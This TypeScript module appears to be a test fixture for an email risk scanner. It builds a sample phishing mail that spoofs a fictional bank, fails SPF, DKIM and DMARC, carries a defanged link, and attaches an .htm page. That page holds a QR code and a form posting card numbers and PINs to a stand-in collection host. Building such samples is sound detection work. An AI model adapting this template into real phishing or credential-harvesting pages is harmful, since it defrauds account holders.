import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import QRCode from 'qrcode';

/**
 * A second phish, shaped differently from `phishingMail`: a small bank no catalogue knows, its
 * own From address spoofed (SPF softfail, DMARC fail), a plain-text-only body with a `(dot)`
 * defanged link, the bank's real site in the footer, and an `.htm` attachment sent as
 * application/octet-stream whose form posts away and whose QR code is an inline data: image.
 */
export async function spoofedBankMail(): Promise<Buffer> {
  const qr = await QRCode.toDataURL('http://verify-account.example-cloudhost.net/rb/auth', { width: 200 });
  const page = `<html><body><p>Rivermouth Savings secure message</p><img src="${qr}" alt="scan me">
<form action="http://collect.example-cloudhost.net/p.php" method="post"><input name="card"><input name="pin" type="password"></form></body></html>`;
  return new MailComposer({
    from: '"Rivermouth Savings Bank" <alerts@rivermouthsavings.com>',
    to: 'someone@riskscan.local',
    subject: 'Important: confirm your card',
    date: new Date('2026-11-21T07:00:00Z'),
    headers: {
      'Authentication-Results':
        'mx.riskscan.local; spf=softfail smtp.mailfrom=rivermouthsavings.com; dkim=fail header.d=rivermouthsavings.com; dmarc=fail (p=reject) header.from=rivermouthsavings.com',
    },
    text: 'Your card is suspended. Confirm it at rivermouth-card-check(dot)example-cloudhost(dot)net/confirm\n\nRivermouth Savings Bank, https://www.rivermouthsavings.com/',
    attachments: [{ filename: 'SecureMessage.htm', content: page, contentType: 'application/octet-stream' }],
  })
    .compile()
    .build();
}
